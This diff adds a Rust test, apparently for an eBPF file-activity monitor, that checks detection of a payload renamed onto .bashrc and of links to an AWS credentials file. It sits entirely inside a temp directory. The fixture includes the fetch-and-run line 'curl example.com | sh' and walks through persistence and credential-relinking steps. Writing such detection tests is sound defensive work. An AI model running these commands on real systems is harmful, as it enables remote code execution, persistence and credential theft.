@@ -689,3 +689,58 @@ fn exec_facts_come_from_the_new_image() {
     assert!(report.contains("exec-memfd"), "{report}");
     assert!(report.contains("exec-deleted-file"), "{report}");
 }
+
+/// Names made without opening count as writes: `mv payload ~/.bashrc` (a rename onto a shell
+/// start-up file) is persistence, and a hard or symbolic link that gives a credential another
+/// name is a finding, so reading it under that name is not unseen.
+#[test]
+fn renames_and_links_are_writes() {
+    if !require_bpf() {
+        return;
+    }
+    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
+    let dir = TempDir::new("relink");
+    let home = dir.join("home");
+    fs::create_dir_all(home.join(".aws")).unwrap();
+    fs::write(home.join(".aws/credentials"), "[default]\n").unwrap();
+    let payload = dir.join("payload");
+    fs::write(&payload, "curl example.com | sh\n").unwrap();
+    let rc = home.join(".bashrc");
+    let hard = dir.join("creds-hard");
+    let soft = dir.join("creds-soft");
+    let creds = home.join(".aws/credentials");
+    // First the payload onto .bashrc; then the credentials, hard- and soft-linked (the
+    // trigger's link step links its rename target, so run it a second time on the creds).
+    let script = format!(
+        "{t} relink {p} {rc} {d}/rc-hard {d}/rc-target {d}/rc-soft && \
+         ln {c} {h} && ln -s {c} {s}",
+        t = TRIGGER,
+        p = payload.display(),
+        rc = rc.display(),
+        d = dir.path().display(),
+        c = creds.display(),
+        h = hard.display(),
+        s = soft.display(),
+    );
+    let r = run_watched(&dir, &[], &["/bin/sh", "-c", &script]);
+    let renames: Vec<_> = r.of_kind("rename").collect();
+    assert_eq!(renames.len(), 1, "{renames:#?}");
+    assert_eq!(renames[0]["rename"]["from"], s(&payload));
+    assert_eq!(renames[0]["rename"]["to"], s(&rc));
+    assert_eq!(renames[0]["rename"]["ret"], 0);
+    let links: Vec<_> = r.of_kind("link").collect();
+    let hard_link = links
+        .iter()
+        .find(|l| l["link"]["to"] == s(&hard))
+        .unwrap_or_else(|| panic!("no hard link: {links:#?}"));
+    assert_eq!(hard_link["link"]["from"], s(&creds));
+    let soft_link = links
+        .iter()
+        .find(|l| l["link"]["to"] == s(&soft))
+        .unwrap_or_else(|| panic!("no symlink: {links:#?}"));
+    assert_eq!(soft_link["link"]["symbolic"], true);
+    let stderr = r.stderr();
+    assert!(stderr.contains("write-shell-rc"), "{stderr}");
+    assert!(stderr.contains("sensitive-file-moved"), "{stderr}");
+    assert_eq!(r.code(), Some(86), "{stderr}");
+}
